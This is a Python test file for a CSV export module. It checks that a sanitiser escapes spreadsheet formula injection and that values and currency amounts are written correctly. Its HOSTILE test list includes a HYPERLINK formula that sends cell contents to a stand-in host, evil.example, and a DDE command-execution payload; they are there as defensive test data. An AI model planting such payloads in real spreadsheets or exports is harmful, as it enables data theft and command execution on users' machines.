"""Cells: what is hostile in a spreadsheet is harmless, and everything can be read back."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest

from resolvers.export.cells import harmless, money, plain

HOSTILE = [
    "=1+1",
    "+49 30 1234",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001 - what is tried
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=1,2\r\n"=3"',
]
HARMLESS = [
    "",
    "A lamp",
    "'s-Hertogenbosch",
    "''",
    " =1+1",
    "1=1",
    'A "brass" lamp, tall',
    "two\r\nlines",
    "one\nmore",
    "a,b;c\td",
    "Ä ü ß é 灯 💡",
    "null",
]
FORMULA_BEGINS = set("=+-@\t\r\n＝＋－＠")  # noqa: RUF001 - what spreadsheets take


def unescaped(cell: str) -> str:
    """What was written, by the rule of docs/exports.md."""
    return cell[1:] if cell.startswith("'") and cell.lstrip("'")[:1] in FORMULA_BEGINS else cell


class TestHarmless:
    """`harmless`."""

    @pytest.mark.parametrize("text", HOSTILE)
    def test_begins_no_formula(self, text: str) -> None:
        assert harmless(text) == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS)
    def test_leaves_other_texts_alone(self, text: str) -> None:
        assert harmless(text) == text

    @pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
    def test_can_be_undone_after_reading(self, text: str) -> None:
        written = io.StringIO(newline="")
        csv.writer(written).writerow([harmless(text), "last"])
        (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""), strict=True)

        assert unescaped(row[0]) == text
        assert row[1] == "last"


class TestPlain:
    """`plain` and `money`: what is no text."""

    @pytest.mark.parametrize(
        ("value", "cell"),
        [
            (-5, "-5"),
            (Decimal("-1.50"), "-1.50"),
            (2**63 - 1, "9223372036854775807"),
            (None, ""),
            (True, "true"),
            (False, "false"),
            (date(2026, 1, 31), "2026-01-31"),
            (datetime(2026, 1, 31, 12, tzinfo=UTC), "2026-01-31T12:00:00Z"),
            (datetime(2026, 1, 31, 12, 0, 0, 1500, tzinfo=UTC), "2026-01-31T12:00:00.001500Z"),
            (UUID(int=7), "00000000-0000-0000-0000-000000000007"),
        ],
    )
    def test_is_written_as_it_is(self, value: Any, cell: str) -> None:
        assert str(plain(value, {})) == cell

    @pytest.mark.parametrize(
        ("amount", "currency", "cell"), [(-150, "EUR", "-1.50"), (150, "XAF", "150"), (-5, "TND", "-0.005")]
    )
    def test_money_is_a_decimal(self, amount: int, currency: str, cell: str) -> None:
        assert money(amount, {"currency": currency}) == cell
